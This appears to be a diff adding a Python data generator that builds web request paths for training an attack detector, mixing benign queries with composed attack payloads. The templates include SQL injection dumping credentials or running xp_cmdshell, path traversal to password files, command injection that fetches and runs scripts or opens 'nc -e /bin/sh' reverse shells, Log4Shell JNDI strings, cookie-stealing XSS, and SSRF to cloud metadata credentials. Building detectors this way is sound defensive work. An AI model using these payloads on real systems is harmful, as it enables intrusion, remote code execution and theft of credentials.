@@ -1,0 +1,245 @@
+"""Web request paths for the generator: attack payloads composed from parts, in the encodings
+scanners and hand-written exploits send, and benign queries that share their words.
+
+A fixed list of a few payloads taught the model a few token sequences (one ``UNION+SELECT``
+spelling), so the same attack spelled ``%20UNION%20SELECT%20`` read as benign. Composing
+injection point x payload x encoding gives the words of an attack many spellings; benign
+queries with the same words (``select``, ``order by``, ``union`` in search terms, ``..`` in
+relative links) keep the model from learning a keyword instead of the attack.
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable
+
+ENDPOINTS = (
+    "/products",
+    "/item",
+    "/search",
+    "/index.php",
+    "/api/v1/users",
+    "/catalog/view",
+    "/news.asp",
+    "/report.jsp",
+    "/cgi-bin/query.cgi",
+    "/shop/cart",
+    "/blog/post",
+    "/admin/list",
+)
+PARAMS = ("id", "q", "page", "cat", "user", "sort", "order", "file", "name", "ref", "pid", "lang")
+
+_SQL = (
+    "{q} OR {q}1{q}={q}1",
+    "{q} OR 1=1-- -",
+    "{n}{q} AND 1=1--",
+    "{n} AND 1=2 UNION SELECT {cols}--",
+    "{n}{q} UNION SELECT {cols}-- -",
+    "{n}{q} UNION ALL SELECT {cols},NULL#",
+    "-{n} UNION SELECT username,password FROM users",
+    "{n}{q} UNION SELECT table_name FROM information_schema.tables--",
+    "{n} ORDER BY {k}--",
+    "{n}{q} AND SLEEP({k})-- -",
+    "{n}{q} AND (SELECT {k} FROM (SELECT(SLEEP({k})))a)--",
+    "{n}; WAITFOR DELAY {q}0:0:{k}{q}--",
+    "{n}{q}; DROP TABLE {table}--",
+    "{n} AND EXTRACTVALUE(1,CONCAT(0x7e,version()))",
+    "{n}{q} AND BENCHMARK(5000000,MD5(1))#",
+    "{q}; EXEC xp_cmdshell({q}whoami{q})--",
+    "admin{q}--",
+    "{n}{q} or {q}a{q}={q}a",
+    "{n} AND ASCII(SUBSTRING((SELECT password FROM {table} LIMIT 1),1,1))>{k}",
+    "{n}) UNION SELECT @@version,{cols}--",
+)
+_TRAVERSAL = (
+    "{up}etc{sep}passwd",
+    "{up}etc{sep}shadow",
+    "{up}windows{sep}win.ini",
+    "{up}proc{sep}self{sep}environ",
+    "{up}var{sep}www{sep}.env",
+    "{up}boot.ini",
+)
+_UP = (
+    "../",
+    "..%2f",
+    "%2e%2e/",
+    "%2e%2e%2f",
+    "..%252f",
+    "..\\",
+    "..%5c",
+    "%c0%ae%c0%ae/",
+    "....//",
+)
+_COMMAND = (
+    "{h};cat /etc/passwd",
+    "{h}|id",
+    "{h}&&whoami",
+    "{h};uname -a",
+    "$(id)",
+    "`id`",
+    "{h}%0Aid",
+    "{h};wget http://{ip}/x.sh -O /tmp/x.sh;sh /tmp/x.sh",
+    "{h}|curl http://{ip}/s|sh",
+    "${{jndi:ldap://{ip}:1389/Exploit}}",
+    "${{${{lower:j}}ndi:${{lower:l}}dap://{ip}/a}}",
+    "%24%7Bjndi%3Aldap%3A%2F%2F{ip}%2Fa%7D",
+    "{h};nc -e /bin/sh {ip} 4444",
+)
+_XSS = (
+    "<script>alert({k})</script>",
+    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+    "<img src=x onerror=alert({k})>",
+    "%22%3E%3Csvg%2Fonload%3Dalert({k})%3E",
+    "javascript:alert(document.domain)",
+    "<body onload=alert({k})>",
+    "%3Ciframe%20src%3Djavascript:alert({k})%3E",
+)
+_OTHER = (
+    "/index.php?page=php://filter/convert.base64-encode/resource={name}",
+    "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    "/proxy?target=file:///etc/passwd",
+    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system",
+    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
+    "/?{param}=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
+    "/wp-content/plugins/{name}/readme.txt?{param}=../../../wp-config.php",
+    "/solr/admin/cores?action=CREATE&name=x&instanceDir=../../../../etc",
+)
+PROBES = (
+    "/wp-login.php",
+    "/.env",
+    "/.git/config",
+    "/.aws/credentials",
+    "/phpmyadmin/index.php",
+    "/pma/scripts/setup.php",
+    "/admin/config.php",
+    "/xmlrpc.php",
+    "/actuator/env",
+    "/actuator/heapdump",
+    "/server-status",
+    "/boaform/admin/formLogin",
+    "/HNAP1/",
+    "/manager/html",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/config/getuser?index=0",
+    "/owa/auth/logon.aspx",
+    "/console/login/LoginForm.jsp",
+)
+_BENIGN_TERMS = (
+    "select+a+plan",
+    "union+square+hotels",
+    "order+by+date",
+    "drop+shipping",
+    "sleep+tracker",
+    "how+to+select+all",
+    "script+writing+course",
+    "password+manager+review",
+    "alert+settings",
+    "table+tennis",
+    "from+paris+to+london",
+    "cat+food",
+    "union%20station",
+    "select%20multiple%20rows",
+    "etc%20and%20more",
+)
+
+
+def _encode(rng: random.Random, text: str) -> str:
+    """``text`` as a scanner puts it in a URL: spaces as ``+``, ``%20`` or ``/**/``, quotes
+    raw or percent-encoded, sometimes in mixed case."""
+    space = rng.choice(("+", "%20", "/**/", "%20", "+"))
+    quote = rng.choice(("'", "%27", "'", "%2527", '"'))
+    text = text.replace("{q}", quote)
+    if rng.random() < 0.2:
+        text = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)
+    return text.replace(" ", space)
+
+
+def _url(rng: random.Random, value: str) -> str:
+    path = rng.choice(ENDPOINTS)
+    param = rng.choice(PARAMS)
+    if rng.random() < 0.3:
+        return f"{path}?{rng.choice(PARAMS)}={rng.randint(1, 99)}&{param}={value}"
+    return f"{path}?{param}={value}"
+
+
+def _ip(rng: random.Random) -> str:
+    first = rng.choice((45, 91, 185, 193))
+    return f"{first}.{rng.randint(1, 254)}.{rng.randint(0, 254)}.{rng.randint(1, 254)}"
+
+
+def sql_injection(rng: random.Random) -> str:
+    template = rng.choice(_SQL).format(
+        q="{q}",
+        n=rng.randint(1, 999),
+        k=rng.randint(1, 12),
+        cols=",".join(
+            rng.choice(("NULL", "1", "2", "user()", "database()", "version()", "password"))
+            for _ in range(rng.randint(1, 4))
+        ),
+        table=rng.choice(("users", "accounts", "admin", "members", "orders")),
+    )
+    return _url(rng, _encode(rng, template))
+
+
+def path_traversal(rng: random.Random) -> str:
+    up = rng.choice(_UP) * rng.randint(3, 8)
+    sep = "/" if rng.random() < 0.7 else rng.choice(("%2f", "%5c"))
+    target = rng.choice(_TRAVERSAL).format(up=up, sep=sep)
+    if rng.random() < 0.4:
+        return f"/{rng.choice(('static', 'images', 'cgi-bin', 'assets'))}/{target}"
+    return _url(rng, target)
+
+
+def command_injection(rng: random.Random) -> str:
+    value = rng.choice(_COMMAND).format(
+        h=rng.choice(("127.0.0.1", "localhost", "8.8.8.8", "x")), ip=_ip(rng)
+    )
+    return _url(rng, _encode(rng, value))
+
+
+def cross_site_scripting(rng: random.Random) -> str:
+    return _url(rng, _encode(rng, rng.choice(_XSS).format(k=rng.randint(1, 9))))
+
+
+def other_exploit(rng: random.Random) -> str:
+    return rng.choice(_OTHER).format(
+        name=rng.choice(("config", "index", "db", "wp-file-manager")), param=rng.choice(PARAMS)
+    )
+
+
+def probe(rng: random.Random) -> str:
+    return rng.choice(PROBES)
+
+
+ATTACKS: tuple[Callable[[random.Random], str], ...] = (
+    sql_injection,
+    sql_injection,
+    path_traversal,
+    command_injection,
+    cross_site_scripting,
+    other_exploit,
+    probe,
+)
+
+
+def attack_path(rng: random.Random) -> str:
+    """One attack request path (SQL injection twice as likely as each other kind)."""
+    return rng.choice(ATTACKS)(rng)
+
+
+def benign_path(rng: random.Random) -> str:
+    """A normal request path, often with a query whose words an attack also uses."""
+    roll = rng.random()
+    if roll < 0.35:
+        return f"/search?q={rng.choice(_BENIGN_TERMS)}&page={rng.randint(1, 9)}"
+    if roll < 0.6:
+        return f"{rng.choice(ENDPOINTS)}?{rng.choice(PARAMS)}={rng.randint(1, 99999)}"
+    if roll < 0.75:
+        return (
+            f"{rng.choice(ENDPOINTS)}?sort={rng.choice(('price', 'name', 'date'))}"
+            f"&order={rng.choice(('asc', 'desc'))}&limit={rng.choice((10, 20, 50))}"
+        )
+    if roll < 0.85:
+        return f"/static/{rng.choice(('css', 'js', 'fonts'))}/../img/icon-{rng.randint(1, 64)}.png"
+    page = rng.choice(("select", "union", "joins", "scripts", "errors"))
+    return f"/docs/{rng.choice(('sql', 'api', 'guide'))}/{page}.html"
